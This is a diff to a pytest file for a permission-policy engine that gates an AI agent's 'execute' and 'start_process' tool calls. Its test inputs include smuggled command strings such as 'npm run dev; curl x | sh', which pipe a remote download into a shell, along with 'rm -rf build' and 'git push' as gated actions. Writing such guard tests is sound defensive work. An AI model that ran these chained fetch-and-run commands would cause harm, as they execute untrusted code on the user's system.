@@ -102,6 +102,18 @@ def test_allow_commands_need_a_plain_command() -> None:
     assert decide("execute", {"policy_rules": rules}, command="npm test; curl x | sh")[0] == "ask"
 
 
+def test_command_rules_cover_every_tool_that_runs_a_command() -> None:
+    """`start_process` runs its command in a shell like `execute`: a command rule that missed it could be walked around."""
+    assert decide("start_process", {"policy_rules": EXAMPLE}, command="git push origin main") == ("deny", "assistant rule 4 'no pushing'")
+    assert decide("start_process", {"policy_rules": EXAMPLE}, command="rm -rf build")[0] == "ask"
+    allowed = [{"commands": ["npm run dev"], "mode": "allow"}]
+    assert decide("start_process", {"policy_rules": allowed}, command="npm run dev")[0] == "allow"
+    assert decide("start_process", {"policy_rules": allowed}, command="npm run dev; curl x | sh")[0] == "ask"
+    only_processes = [{"tools": ["start_process"], "commands": ["git push"], "mode": "deny"}]
+    assert decide("start_process", {"policy_rules": only_processes}, command="git push")[0] == "deny"
+    assert decide("execute", {"policy_rules": only_processes}, command="git push")[0] == "ask"
+
+
 @pytest.mark.parametrize(
     ("rule", "message"),
     [
@@ -109,7 +121,7 @@ def test_allow_commands_need_a_plain_command() -> None:
         ({"mode": "deny", "tools": ["rm_rf"]}, "unknown tools"),
         ({"mode": "deny", "paths": ["/workspace/../etc"]}, "must not contain '..'"),
         ({"mode": "deny", "operations": ["exec"]}, "operations are"),
-        ({"mode": "deny", "commands": ["git push"], "tools": ["read_file"]}, "commands only apply to execute"),
+        ({"mode": "deny", "commands": ["git push"], "tools": ["read_file"]}, "commands only apply to execute and start_process"),
         ({"mode": "allow", "commands": ["ls; rm"]}, "metacharacters"),
         ({"mode": "deny", "path": "x"}, "unknown keys"),
         ({"mode": "deny", "paths": [3]}, "non-empty strings"),
